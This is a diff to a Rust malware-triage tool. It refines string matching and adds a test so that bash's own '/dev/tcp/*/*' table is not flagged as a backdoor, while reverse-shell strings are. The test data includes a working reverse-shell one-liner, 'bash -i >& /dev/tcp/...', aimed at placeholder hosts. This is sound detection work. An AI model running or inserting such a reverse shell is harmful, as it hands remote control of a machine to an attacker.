@@ -330,7 +330,7 @@ impl<'a> Facts<'a> {
             Kind::String => self
                 .strings
                 .iter()
-                .filter(|(lower, _)| lower.contains(v))
+                .filter(|(lower, s)| super::behavior::holds_string(s, lower, v))
                 .take(MAX_FACTS)
                 .map(|(_, s)| (format!("string {s}"), format!("string \"{}\"", shorten(s))))
                 .collect(),
@@ -699,6 +699,42 @@ mod tests {
         t.imports.push(import("kernel32.dll", "CreatePipe"));
         let hint = backdoor(&t).expect("a keylogger with a remote shell's pipes");
         assert_eq!(hint.confidence, Confidence::Medium);
+    }
+
+    /// bash's own table of special files spells `/dev/tcp/*/*` (a word of
+    /// `data/attack-string-exceptions.txt`): with a socket and `dup2` it is no backdoor;
+    /// a reverse shell's `/dev/tcp/HOST/PORT` (or a format that fills them in) is.
+    #[test]
+    fn a_shells_own_dev_tcp_table_is_no_backdoor() {
+        let mut t = built_benign();
+        let import = |library: &str, name: &str| crate::findings::triage::Import {
+            library: library.to_string(),
+            name: Some(name.to_string()),
+            ordinal: None,
+            delay: false,
+        };
+        t.imports.push(import("libc.so.6", "dup2"));
+        t.imports.push(import("libc.so.6", "socket"));
+        let with_string = |value: &str| {
+            let mut t = t.clone();
+            t.strings.push(crate::findings::triage::FoundString {
+                offset: 0,
+                encoding: crate::ioc::Encoding::Ascii,
+                section: None,
+                value: value.to_string(),
+                tags: Vec::new(),
+            });
+            hints(&t).into_iter().find(|h| h.class == "backdoor")
+        };
+        assert_eq!(with_string("/dev/tcp/*/*"), None);
+        assert_eq!(with_string("/DEV/UDP/*/*"), None);
+        for reverse in [
+            "/dev/tcp/198.51.100.9/4444",
+            "/dev/tcp/%s/%d",
+            "/dev/tcp/*/* bash -i >& /dev/tcp/203.0.113.5/443",
+        ] {
+            assert!(with_string(reverse).is_some(), "{reverse}");
+        }
     }
 
     #[test]
